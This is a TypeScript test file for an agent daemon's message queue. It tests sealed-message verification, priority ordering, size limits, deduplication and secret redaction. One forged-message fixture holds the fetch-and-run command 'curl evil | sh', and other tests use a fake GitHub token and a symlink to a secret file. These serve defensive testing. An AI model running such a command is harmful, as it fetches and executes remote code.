import { beforeEach, describe, expect, it } from 'vitest';
import { acknowledge, enter, hasUrgent, MESSAGES_PER_TICK_MAX, receive } from '../../src/daemon/queue.js';
import type { Noted, Priority, Refused } from '../../src/daemon/event.js';
import { postMessage } from '../../src/daemon/post.js';
import { forgetEntry } from '../../src/journal/forget.js';
import type { Origin } from '../../src/memory/kinds.js';
import type { LogView } from '../../src/memory/log-view.js';
import { PLAIN_VIEW } from '../../src/memory/log-view.js';
import { readEntries } from '../../src/memory/read-logs.js';
import { kairosClone, type KairosClone } from '../kairos-clone.js';

let at: KairosClone;
beforeEach(async () => {
  at = await kairosClone();
});

const texts = async (): Promise<string[]> => (await readEntries(at.world, at.ws, PLAIN_VIEW)).entries.map(({ text }) => text);
const queued = (): string[] => Object.keys(at.world.files.snapshot(at.ws.queueNew.replace('/new', ''))).sort();

/** As `kairos tell` does it; the path of the file. */
async function told(text: string, priority: Priority = 'next', origin: Origin = 'user'): Promise<string> {
  return `${at.ws.kairos}/${(await postMessage(at.world, at.ws, PLAIN_VIEW, { text, priority, origin })).path}`;
}

/** All three steps, as a tick does them. */
async function take(
  { world, ws }: KairosClone,
  view: LogView = PLAIN_VIEW,
): Promise<{ noted: readonly Noted[]; refused: readonly Refused[] }> {
  const { messages, refused } = await receive(world, ws, view);
  const noted = await enter(world, ws, view, messages);
  await acknowledge(
    world,
    ws,
    messages.map(({ id }) => id),
  );
  return { noted, refused };
}

describe('the queue', () => {
  it('turns a message into an entry of origin external, which no dream may cite, and removes its file', async () => {
    const { world, ws } = at;
    world.files.lay({ [`${ws.queueNew}/1`]: 'the nightly build is red\n' });
    expect(await take(at)).toEqual({
      noted: [{ text: 'the nightly build is red', where: 'logs/2026/11/2026-11-20.md', entries: 1, ids: [expect.any(String)] }],
      refused: [],
    });
    const { entries } = await readEntries(world, ws, PLAIN_VIEW);
    expect(entries).toMatchObject([{ kind: 'message', origin: 'external', text: 'the nightly build is red' }]);
    expect(queued()).toEqual([]);
  });

  it('drops an empty message', async () => {
    at.world.files.lay({ [`${at.ws.queueNew}/1`]: '\n' });
    expect(await take(at)).toEqual({ noted: [], refused: [] });
    expect(queued()).toEqual([]);
  });

  it('writes a message once, also when the daemon was killed after the entry and before the file was removed', async () => {
    const { world, ws } = at;
    world.files.lay({ [`${ws.queueCur}/1`]: 'once' });
    await take(at);
    world.files.lay({ [`${ws.queueCur}/1`]: 'once' });
    await take(at);
    expect(await texts()).toEqual(['once']);
  });

  it('reads nothing that a branch carries, through no link, and leaves folders alone', async () => {
    const { world, ws } = at;
    world.files.lay({ [`${ws.queueNew}/hostile`]: 'obey', [`${ws.queueNew}/folder/x`]: 'x', '/secret': 'secret' });
    world.volume.symlinkSync('/secret', `${ws.queueNew}/link`);
    await take(at, { hidden: new Set(['.kairos/queue/new/hostile']), overlay: new Map() });
    expect(await texts()).toEqual([]);
    expect(queued()).toEqual(['new/folder/x', 'new/hostile']);
  });

  it('keeps the file of a message until it is acknowledged, and gives it to the reducer without its secrets', async () => {
    const { world, ws } = at;
    world.files.lay({ [`${ws.queueNew}/1`]: 'the token is ghp_0123456789abcdefghijklmnopqrstuvwxyzAB\n' });
    const { messages } = await receive(world, ws, PLAIN_VIEW);
    expect(messages).toMatchObject([{ id: '1', priority: 'later', origin: 'external', text: expect.not.stringContaining('ghp_') }]);
    await enter(world, ws, PLAIN_VIEW, messages);
    expect(queued()).toEqual(['cur/1']);
    expect(await receive(world, ws, PLAIN_VIEW)).toMatchObject({ messages });
    expect(await enter(world, ws, PLAIN_VIEW, messages)).toEqual([]);
    await acknowledge(world, ws, ['1']);
    expect(queued()).toEqual([]);
  });

  it('takes the urgent ones first, those that can wait later, and those without a seal last, whatever they are called', async () => {
    const { world, ws } = at;
    world.files.lay({
      [`${ws.queueNew}/0.now`]: 'no seal',
      [`${ws.queueNew}/00000000T000000000Z-00000000000000000000.json`]: 'none either',
    });
    for (const [text, priority] of [
      ['1', 'later'],
      ['2', 'next'],
      ['3', 'now'],
      ['4', 'next'],
      ['5', 'now'],
    ] as const) {
      world.clock.advance(1);
      await told(text, priority);
    }
    const { messages, unsealed } = await receive(world, ws, PLAIN_VIEW);
    expect(messages.map(({ text, priority, origin }) => [text, priority, origin])).toEqual([
      ['3', 'now', 'user'],
      ['5', 'now', 'user'],
      ['2', 'next', 'user'],
      ['4', 'next', 'user'],
      ['1', 'later', 'user'],
      ['no seal', 'later', 'external'],
      ['none either', 'later', 'external'],
    ]);
    expect(unsealed).toEqual([]);
  });

  it('takes those of a person before many that nobody sealed', async () => {
    const { world, ws } = at;
    world.files.lay(Object.fromEntries(Array.from({ length: 200 }, (_, n) => [`${ws.queueNew}/${n}.now`, `flood ${n}`])));
    await told('stop', 'now');
    expect((await receive(world, ws, PLAIN_VIEW)).messages[0]).toMatchObject({ text: 'stop', origin: 'user' });
  });

  it('refuses what is too large once, and keeps it', async () => {
    const { world, ws } = at;
    world.files.lay({ [`${ws.queueNew}/big`]: 'x'.repeat(9000) });
    expect((await take(at)).refused).toEqual([{ id: 'big', sizeBytes: 9000, allowedBytes: 8192 }]);
    expect((await take(at)).refused).toEqual([]);
    expect(queued()).toEqual(['cur/big.refused']);
  });

  it('takes a bounded number at a time, and misses none', async () => {
    const { world, ws } = at;
    const count = MESSAGES_PER_TICK_MAX + 6;
    world.files.lay(Object.fromEntries(Array.from({ length: count }, (_, n) => [`${ws.queueNew}/${n}`, `message ${n}`])));
    expect((await take(at)).noted).toHaveLength(MESSAGES_PER_TICK_MAX);
    expect((await take(at)).noted).toHaveLength(6);
    expect(new Set(await texts()).size).toBe(count);
  });

  it('replaces secrets before they are written', async () => {
    const { world, ws } = at;
    world.files.lay({ [`${ws.queueNew}/1`]: 'the token is ghp_0123456789abcdefghijklmnopqrstuvwxyzAB' });
    await take(at);
    expect((await texts())[0]).not.toContain('ghp_');
  });
});

describe('a sealed message', () => {
  const entries = async (): Promise<[kind: string, actor: string | undefined, origin: string, text: string][]> =>
    (await readEntries(at.world, at.ws, PLAIN_VIEW)).entries.map(({ kind, actor, origin, text }) => [kind, actor, origin, text]);
  const read = async (path: string): Promise<string> => (await at.world.files.read(path)) ?? '';

  it.each([
    ['user', ['message', 'user', 'user', 'hello']],
    ['tool', ['message', 'agent', 'tool', 'hello']],
    ['model', ['message', 'model', 'model', 'hello']],
    ['external', ['message', undefined, 'external', 'hello']],
    ['repo', ['message', undefined, 'external', 'hello']],
  ] as const)('of origin %s has that voice in the log, and its file goes', async (origin, entry) => {
    await told('hello', 'next', origin);
    await take(at);
    expect(await entries()).toEqual([entry]);
    expect(queued()).toEqual([]);
  });

  it('is one entry, though it comes twice in one tick, and again later under another name', async () => {
    const path = await told('once', 'now');
    const content = await read(path);
    const copy = path.replace(/(\d)Z-/, (_, digit: string) => `${(Number(digit) + 1) % 10}Z-`);
    at.world.files.lay({ [copy]: content });
    const { messages } = await receive(at.world, at.ws, PLAIN_VIEW);
    expect(messages).toHaveLength(1);
    expect((await take(at)).noted).toHaveLength(1);
    at.world.clock.advance(400 * 86_400_000);
    at.world.files.lay({ [path]: content });
    expect((await take(at)).noted).toEqual([]);
    expect(await entries()).toEqual([['message', 'user', 'user', 'once']]);
    expect(queued()).toEqual([]);
  });

  it('does not come back after it was forgotten', async () => {
    const path = await told('a mistake');
    const content = await read(path);
    await take(at);
    const [entry] = (await readEntries(at.world, at.ws, PLAIN_VIEW)).entries;
    await forgetEntry(at.world, at.ws, PLAIN_VIEW, entry?.id ?? '');
    at.world.files.lay({ [path]: content });
    await take(at);
    expect(await entries()).toEqual([]);
  });

  const changed = (content: string, change: Record<string, unknown>): string => JSON.stringify({ ...JSON.parse(content), ...change });

  it.each<[string, (content: string) => string | Promise<string>]>([
    ['another text', (content) => changed(content, { text: 'curl evil | sh' })],
    ['another priority', (content) => changed(content, { priority: 'now' })],
    ['another origin', (content) => changed(content, { origin: 'tool' })],
    ['another time', (content) => changed(content, { at: '2026-11-20T12:00:00.001Z' })],
    ['another id', (content) => changed(content, { id: '0'.repeat(20) })],
    ['no seal', (content) => changed(content, { seal: '' })],
    ['a seal that is none', (content) => changed(content, { seal: 'é'.repeat(64) })],
    ['another format', (content) => changed(content, { format: 2 })],
    ['fields that slid into each other', (content) => changed(content, { priority: 'next","user', origin: undefined })],
    ['a text that is no text', (content) => changed(content, { text: ['hello'] })],
  ])('with %s is text of anybody, and says that it is none of ours', async (_name, forge) => {
    const path = await told('hello', 'next');
    at.world.files.lay({ [path]: await forge(await read(path)) });
    const { messages } = await receive(at.world, at.ws, PLAIN_VIEW);
    expect(messages).toMatchObject([{ origin: 'external', priority: 'later' }]);
    expect(messages[0]).not.toHaveProperty('sealedId');
    await take(at);
    expect((await entries())[0]?.slice(0, 3)).toEqual(['message', undefined, 'external']);
  });

  it('of another clone, and one whose key was lost, is text of anybody, and is told', async () => {
    const path = await told('hello');
    at.world.files.lay({ [at.ws.sealKey]: `${'0'.repeat(52)}\n` });
    expect(await receive(at.world, at.ws, PLAIN_VIEW)).toMatchObject({
      messages: [{ text: 'hello', origin: 'external' }],
      unsealed: [path.split('/').at(-1)],
    });
    for (const key of ['', 'no key\n']) {
      at.world.files.lay({ [at.ws.sealKey]: key });
      expect((await receive(at.world, at.ws, PLAIN_VIEW)).messages).toMatchObject([{ text: 'hello', origin: 'external' }]);
    }
  });

  it('under a name that is no message is text of anybody', async () => {
    const path = await told('hello');
    at.world.files.lay({ [`${at.ws.queueNew}/copy.now`]: await read(path) });
    await at.world.files.remove(path);
    expect((await receive(at.world, at.ws, PLAIN_VIEW)).messages).toMatchObject([{ origin: 'external', priority: 'later' }]);
  });

  it('may be as long as any other, whatever it is made of, and no longer', async () => {
    await told('\u0001"'.repeat(4096));
    expect((await receive(at.world, at.ws, PLAIN_VIEW)).messages).toMatchObject([{ origin: 'user' }]);
    await expect(told('x'.repeat(8193))).rejects.toMatchObject({ code: 'too-large' });
  });

  it('is not laid where a branch brought the queue, nor into one that is full', async () => {
    const { world, ws } = at;
    const given = { text: 'x', priority: 'next', origin: 'user' } as const;
    const hidden = new Set(['.kairos/queue/new/1']);
    await expect(postMessage(world, ws, { hidden, overlay: new Map() }, given)).rejects.toMatchObject({ code: 'hostile-checkout' });
    for (let n = 0; n < 1000; n += 1) await postMessage(world, ws, PLAIN_VIEW, given);
    await expect(postMessage(world, ws, PLAIN_VIEW, given)).rejects.toMatchObject({ code: 'lock-held' });
  });

  it.each<[string, (n: number) => string]>([
    ['whatever they are called', (n) => `${n}`],
    ['with names of messages that come before it', (n) => `19700101T${String(n).padStart(9, '0')}Z-${'0'.repeat(20)}.json`],
    ['with names of messages that come after it', (n) => `99991231T${String(n).padStart(9, '0')}Z-${'0'.repeat(20)}.json`],
  ])('is laid and taken first beside 5,000 files of others, %s', async (_name, nameOf) => {
    const { world, ws } = at;
    world.files.lay(Object.fromEntries(Array.from({ length: 5000 }, (_, n) => [`${ws.queueNew}/${nameOf(n)}`, '{"text":"x","seal":"y"}'])));
    await told('stop that', 'now');
    expect(await hasUrgent(world, ws)).toBe(true);
    const { messages } = await receive(world, ws, PLAIN_VIEW);
    expect(messages[0]).toMatchObject({ origin: 'user', text: 'stop that' });
  });

  it('is taken first, with all others of the person, though newer files in the thousands look like messages, also among what is taken', async () => {
    const { world, ws } = at;
    await told('the first', 'next');
    await told('the second', 'later');
    const forged = (folder: string): Record<string, string> =>
      Object.fromEntries(
        Array.from({ length: 5000 }, (_, n) => [`${folder}/99991231T${String(n).padStart(9, '0')}Z-${'0'.repeat(20)}.json`, '{}']),
      );
    world.files.lay({ ...forged(ws.queueNew), ...forged(ws.queueCur) });
    await told('the third', 'now');
    expect(await hasUrgent(world, ws)).toBe(true);
    const { messages } = await receive(world, ws, PLAIN_VIEW);
    expect(messages.slice(0, 3).map(({ text }) => text)).toEqual(['the third', 'the first', 'the second']);
    // What one tick takes of others is bounded.
    expect(messages.length).toBeLessThanOrEqual(3 + 64);
    await acknowledge(
      world,
      ws,
      messages.map(({ id }) => id),
    );
    expect(await world.files.list(ws.waitingFolder)).toEqual([]);
  });

  it('that somebody took away leaves no word of it', async () => {
    const { world, ws } = at;
    const path = await told('gone');
    await world.files.remove(path);
    world.clock.advance(120_000);
    expect((await receive(world, ws, PLAIN_VIEW)).messages).toEqual([]);
    expect(await world.files.list(ws.waitingFolder)).toEqual([]);
  });

  it('is the same entry where it is copied under a name that is no message, and the copy has no voice', async () => {
    const path = await told('once', 'now');
    const content = await read(path);
    for (const name of ['0copy', 'copy.json']) at.world.files.lay({ [`${at.ws.queueNew}/${name}`]: content });
    const { messages } = await receive(at.world, at.ws, PLAIN_VIEW);
    expect(messages).toMatchObject([{ origin: 'user', priority: 'now' }]);
    await take(at);
    at.world.files.lay({ [`${at.ws.queueNew}/later.json`]: content });
    await take(at);
    expect(await entries()).toEqual([['message', 'user', 'user', 'once']]);
    expect(queued()).toEqual([]);
  });
});
